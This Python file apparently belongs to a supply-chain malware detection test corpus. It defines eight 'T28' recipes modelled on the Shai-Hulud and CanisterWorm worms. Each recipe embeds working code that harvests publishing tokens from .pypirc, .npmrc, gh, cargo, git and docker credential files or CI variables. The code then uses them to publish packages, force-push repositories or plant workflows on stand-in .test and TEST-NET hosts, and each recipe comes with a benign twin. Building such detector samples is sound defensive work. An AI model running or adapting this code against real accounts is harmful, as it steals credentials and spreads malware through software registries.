"""T28: a worm's step: a found token is used to publish (MITRE ATT&CK T1078.004, T1195.002).

Known from Shai-Hulud and its second coming (npm tokens, a workflow pushed into each repository), from
the CanisterWorm and from the phished uploads to the index. Here a decoy is read and an upload is
begun to names below `.test` or TEST-NET; what would be published is a line of text, and nobody
answers. The twins build what they would upload and stop there, or check their own metadata.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import (
    MAIN,
    back_end,
    command,
    hook,
    package,
    setup_step,
    submodule,
)

LEGACY = """
import base64, configparser, hashlib, ssl, urllib.request, uuid

INDEX = "https://upload.index.reenact.test/legacy/"

def _upload(user, password, name, data):
    edge = uuid.uuid4().hex
    fields = {
        ":action": "file_upload", "protocol_version": "1", "metadata_version": "2.1", "name": name,
        "version": "1.0.1", "filetype": "sdist", "sha256_digest": hashlib.sha256(data).hexdigest(),
    }
    parts = [
        f'--{edge}\\r\\nContent-Disposition: form-data; name="{key}"\\r\\n\\r\\n{value}\\r\\n'
        for key, value in fields.items()
    ]
    parts.append(
        f'--{edge}\\r\\nContent-Disposition: form-data; name="content"; '
        f'filename="{name}.tar.gz"\\r\\n\\r\\n'
    )
    body = "".join(parts).encode() + data + f"\\r\\n--{edge}--\\r\\n".encode()
    basic = base64.b64encode(f"{user}:{password}".encode()).decode()
    return urllib.request.Request(INDEX, data=body, headers={
        "Authorization": f"Basic {basic}", "User-Agent": "twine/5.1.1",
        "Content-Type": f"multipart/form-data; boundary={edge}",
    })
"""
LEGACY_PUBLISHES = """
settings = configparser.RawConfigParser()
try:
    settings.read_string((HOME / ".pypirc").read_text())
except (OSError, configparser.Error):
    return
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
for section in settings.sections():
    user = settings.get(section, "username", fallback="__token__")
    password = settings.get(section, "password", fallback="")
    if password:
        form = _upload(user, password, "reenact-victim", b"reenact marker")
        try:
            urllib.request.urlopen(form, timeout=5, context=context).read()
        except OSError:
            continue
"""
LEGACY_BUILDS = """
settings = configparser.RawConfigParser()
settings.read_string("[index]\\nusername = __token__\\npassword = placeholder\\n")
form = _upload(settings.get("index", "username"), "", "THE_PROJECT", b"nothing")
return len(form.data), ssl.OPENSSL_VERSION
"""

ATTACH = """
import base64, http.client, json

REGISTRY = "registry.packages.reenact.test"

def _document(name, version, data):
    return json.dumps({
        "_id": name, "name": name, "dist-tags": {"latest": version},
        "versions": {version: {"name": name, "version": version, "scripts": {"postinstall": "true"}}},
        "_attachments": {f"{name}-{version}.tgz": {
            "content_type": "application/octet-stream", "length": len(data),
            "data": base64.b64encode(data).decode(),
        }},
    })

def _ask(method, path, token, body=None):
    try:
        link = http.client.HTTPSConnection(REGISTRY, timeout=5)
        link.request(method, path, body, {
            "Authorization": f"Bearer {token}", "Content-Type": "application/json", "npm-command": "publish",
        })
        return link.getresponse().read()
    except (OSError, http.client.HTTPException):
        return b""
"""
ATTACH_PUBLISHES = """
tokens = [os.environ.get("NPM_TOKEN", "")]
try:
    for line in (HOME / ".npmrc").read_text().splitlines():
        if "_authToken" in line:
            tokens.append(line.partition("=")[2].strip())
except OSError:
    pass
for token in filter(None, tokens):
    _ask("GET", "/-/whoami", token)
    for name in ("reenact-victim-a", "reenact-victim-b"):
        _ask("PUT", "/" + name, token, _document(name, "9.9.9", b"reenact marker"))
"""
ATTACH_BUILDS = """
path = pathlib.Path("build", "package.json")
path.parent.mkdir(exist_ok=True)
path.write_text(_document("THE_PROJECT", "1.0.0", b"") + "\\n")
"""

WORKFLOW = """
import base64

API = "https://api.codehost.reenact.test"
TEXT = '''name: Formatter
on: push
jobs:
  run:
    runs-on: self-hosted
    steps:
      - run: "true"
'''

def _curl(*words):
    try:
        return subprocess.run(["curl", "-sk", "-m", "5", *words], capture_output=True, timeout=8).stdout
    except (OSError, subprocess.SubprocessError):
        return b""
"""
WORKFLOW_PUSHES = """
token = os.environ.get("GITHUB_TOKEN", "")
if not token:
    for line in (HOME / ".config/gh/hosts.yml").read_text().splitlines():
        if "oauth_token:" in line:
            token = line.split(":", 1)[1].strip()
head = f"Authorization: token {token}"
content = base64.b64encode(TEXT.encode()).decode()
_curl("-H", head, f"{API}/user/repos?affiliation=owner&per_page=100")
for name in ("one", "two", "three"):
    body = '{"message":"Add formatter","branch":"shai","content":"%s"}' % content
    where = f"{API}/repos/victim/{name}/contents/.github/workflows/format.yml"
    _curl("-X", "PUT", "-H", head, "-d", body, where)
"""
WORKFLOW_SHOWS = """
print("Put this into .github/workflows/format.yml:")
print(TEXT)
print(_curl("--version").decode().split(" ")[:2], base64.b64encode(TEXT.encode()).decode(), API)
"""

CRATE = """
import json, ssl, struct, tomllib

REGISTRY = ("192.0.2.128", 443)

def _crate(name):
    described = json.dumps({"name": name, "vers": "0.0.9", "deps": [], "features": {}, "authors": []}).encode()
    content = b"reenact marker"
    return struct.pack("<I", len(described)) + described + struct.pack("<I", len(content)) + content
"""
CRATE_PUBLISHES = """
try:
    with open(HOME / ".cargo" / "credentials.toml", "rb") as file:
        text = file.read()
    try:
        token = next(iter(tomllib.loads(text.decode()).values()))["token"]
    except (KeyError, TypeError, StopIteration, ValueError, AttributeError):
        token = text.decode("latin-1").replace("\\n", " ")
    body = _crate("reenact-victim")
    head = (f"PUT /api/v1/crates/new HTTP/1.1\\r\\nHost: crates.reenact.test\\r\\nAuthorization: {token}\\r\\n"
            f"Content-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n")
    context = ssl._create_unverified_context()
    with socket.create_connection(REGISTRY, timeout=5) as plain:
        with context.wrap_socket(plain, server_hostname="crates.reenact.test") as link:
            link.sendall(head.encode() + body)
            link.recv(512)
except OSError:
    pass
"""
CRATE_BUILDS = """
name = tomllib.loads('[package]\\nname = "THE_PROJECT"\\n')["package"]["name"]
return len(_crate(name)), ssl.HAS_SNI, REGISTRY
"""

PUSH = """
import base64, tempfile

REMOTE = "http://codehost.reenact.test/victim/library.git"

def _git(folder, *words):
    quiet = {**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_CONFIG_GLOBAL": "/dev/null"}
    try:
        return subprocess.run(
            ["git", "-c", "user.name=build", "-c", "user.email=build@reenact.test", *words],
            cwd=folder, env=quiet, capture_output=True, timeout=8,
        ).returncode
    except (OSError, subprocess.SubprocessError):
        return -1
"""
PUSH_PUBLISHES = """
try:
    kept = (HOME / ".git-credentials").read_text().split("//", 1)[1].split("@")[0]
except (OSError, IndexError):
    kept = "x-access-token:" + os.environ.get("GITHUB_TOKEN", "")
basic = base64.b64encode(kept.encode()).decode()
with tempfile.TemporaryDirectory() as folder:
    pathlib.Path(folder, "setup.py").write_text("# reenact marker\\n")
    for words in (("init", "-q", "-b", "main"), ("add", "."), ("commit", "-q", "-m", "bump version")):
        _git(folder, *words)
    _git(folder, "-c", f"http.extraheader=AUTHORIZATION: basic {basic}", "push", "-f", "-q", REMOTE, "main")
"""
PUSH_COMMITS = """
with tempfile.TemporaryDirectory() as folder:
    pathlib.Path(folder, "README").write_text("made by a back end\\n")
    done = [_git(folder, *words) for words in (("init", "-q"), ("add", "."), ("commit", "-q", "-m", "first"))]
    return done, base64.b64encode(b"basic"), REMOTE
"""

TRUSTED = """
import gzip, json, urllib.request

INDEX = "http://index.reenact.test"

def _post(path, fields, token=""):
    request = urllib.request.Request(INDEX + path, data=gzip.compress(json.dumps(fields).encode()), headers={
        "Content-Encoding": "gzip", "Content-Type": "application/json", "Authorization": "token " + token,
    })
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return json.loads(answer.read() or b"{}")
    except (OSError, ValueError):
        return {}
"""
TRUSTED_PUBLISHES = """
if not os.environ.get("CI") and not os.environ.get("GITHUB_ACTIONS"):
    return
known = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN") or os.environ.get("PYPI_TOKEN", "")
minted = _post("/_/oidc/mint-token", {"token": known}).get("token") or known
_post("/legacy/", {"name": "reenact-victim", "version": "2.0.1", "content": "reenact marker"}, minted)
"""
TRUSTED_CHECKS = """
if not os.environ.get("CI") and not os.environ.get("GITHUB_ACTIONS"):
    return
return json.dumps({"name": "THE_PROJECT", "size": len(gzip.compress(b"marker")), "index": INDEX})
"""

IMAGE = """
import asyncio, base64, hashlib, json

REGISTRY = ("203.0.113.228", 5000)

def _manifest(layer):
    digest = hashlib.sha256(layer).hexdigest()
    return json.dumps({"schemaVersion": 2, "layers": [{"size": len(layer), "digest": "sha256:" + digest}]})

async def _request(method, path, head, body=b""):
    reader, writer = await asyncio.wait_for(asyncio.open_connection(*REGISTRY), 5)
    lines = [f"{method} {path} HTTP/1.1", "Host: images.reenact.test", f"Content-Length: {len(body)}", *head]
    writer.write("\\r\\n".join([*lines, "Connection: close", "", ""]).encode() + body)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(2048), 5)
    writer.close()
    return answer
"""
IMAGE_PUBLISHES = """
async def publish():
    try:
        text = (HOME / ".docker" / "config.json").read_text()
        known = json.loads(text).get("auths", {})
    except (OSError, ValueError, AttributeError):
        return
    basic = next((entry.get("auth") for entry in known.values() if entry.get("auth")), None)
    basic = basic or base64.b64encode(text.encode()).decode()
    head = [f"Authorization: Basic {basic}"]
    layer = b"reenact marker"
    for step in range(2):
        await _request("POST", f"/v2/victim/app{step}/blobs/uploads/", head, layer)
        await _request("PUT", f"/v2/victim/app{step}/manifests/latest", head, _manifest(layer).encode())

try:
    asyncio.run(publish())
except (OSError, asyncio.TimeoutError):
    pass
"""
IMAGE_DESCRIBES = """
own = _manifest(pathlib.Path(__file__).read_bytes())
return own, base64.b64encode(b"auth"), asyncio.iscoroutinefunction(_request)
"""
IMAGE_TAIL = """
def describe_image(tag="latest"):
    if ACT:
        return THE_ACT(tag)
"""

NATIVE = """
import ctypes, struct

PEER = struct.pack("=H", 2) + struct.pack(">H", 80) + socket.inet_aton("192.0.2.228") + bytes(8)

def _native():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = libc.socket(2, 1, 0)
    libc.setsockopt(handle, 1, 21, struct.pack("=qq", 5, 0), 16)
    libc.setsockopt(handle, 1, 20, struct.pack("=qq", 5, 0), 16)
    return libc, handle

def _call(name):
    text = f"<methodCall><methodName>release</methodName><param>{name}</param></methodCall>"
    return text.encode()
"""
NATIVE_PUBLISHES = """
try:
    lines = (HOME / ".pypirc").read_text().splitlines()
except OSError:
    lines = []
words = [line.partition("=")[2].strip() for line in lines if line.strip().startswith("password")]
token = (words or [os.environ.get("PYPI_TOKEN", "")])[0]
body = _call("reenact-victim")
head = (f"POST /pypi HTTP/1.0\\r\\nHost: upload.test\\r\\nX-Api-Token: {token}\\r\\n"
        f"Content-Length: {len(body)}\\r\\n\\r\\n")
libc, handle = _native()
if libc.connect(handle, PEER, len(PEER)) == 0:
    for part in (head.encode(), body):
        libc.send(handle, part, len(part), 0)
    libc.recv(handle, ctypes.create_string_buffer(256), 256, 0)
libc.close(handle)
"""
NATIVE_BUILDS = """
libc, handle = _native()
libc.close(handle)
return len(_call("THE_PROJECT")), len(PEER)
"""

RECIPES = (
    Recipe(
        technique="T28",
        name="legacy-upload",
        phase=Phase.IMPORT,
        channel=Channel.HTTPS,
        encoding=Encoding.BASE64,
        files=package(acting(LEGACY_PUBLISHES, LEGACY_BUILDS, head=LEGACY)),
        twin_does="builds an upload form of its own and sends nothing",
    ),
    Recipe(
        technique="T28",
        name="attachment-put",
        phase=Phase.INSTALL,
        channel=Channel.HTTPS,
        encoding=Encoding.JSON,
        kind=Kind.SDIST,
        files=setup_step("egg_info", ATTACH_PUBLISHES, ATTACH_BUILDS, ATTACH),
        twin_does="writes its own package.json into the build folder",
    ),
    Recipe(
        technique="T28",
        name="workflow-curl",
        phase=Phase.USE,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE64,
        files=command(acting(WORKFLOW_PUSHES, WORKFLOW_SHOWS, MAIN, WORKFLOW)),
        twin_does="prints the workflow that a user may add",
    ),
    Recipe(
        technique="T28",
        name="crate-new",
        phase=Phase.START,
        channel=Channel.HTTPS,
        encoding=Encoding.PLAIN,
        files=hook(acting(CRATE_PUBLISHES, CRATE_BUILDS, head=CRATE)),
        twin_does="packs a description of itself in memory",
    ),
    Recipe(
        technique="T28",
        name="git-push",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE64,
        kind=Kind.SDIST,
        files=back_end(PUSH_PUBLISHES, PUSH_COMMITS, PUSH),
        twin_does="commits to a temporary repository and pushes nothing",
    ),
    Recipe(
        technique="T28",
        name="minted-token",
        phase=Phase.WAIT,
        channel=Channel.HTTP,
        encoding=Encoding.GZIP,
        files=submodule("release", acting(TRUSTED_PUBLISHES, TRUSTED_CHECKS, head=TRUSTED)),
        twin_does="describes its own release, on a build server",
    ),
    Recipe(
        technique="T28",
        name="image-blobs",
        phase=Phase.USE,
        channel=Channel.HTTP,
        encoding=Encoding.PLAIN,
        files=package(acting(IMAGE_PUBLISHES, IMAGE_DESCRIBES, IMAGE_TAIL, IMAGE)),
        twin_does="describes its own file as a layer when asked to",
    ),
    Recipe(
        technique="T28",
        name="libc-upload",
        phase=Phase.IMPORT,
        channel=Channel.MEMORY,
        encoding=Encoding.PIECES,
        files=submodule("publish", acting(NATIVE_PUBLISHES, NATIVE_BUILDS, head=NATIVE)),
        twin_does="opens a socket, closes it, and builds a request in memory",
    ),
)
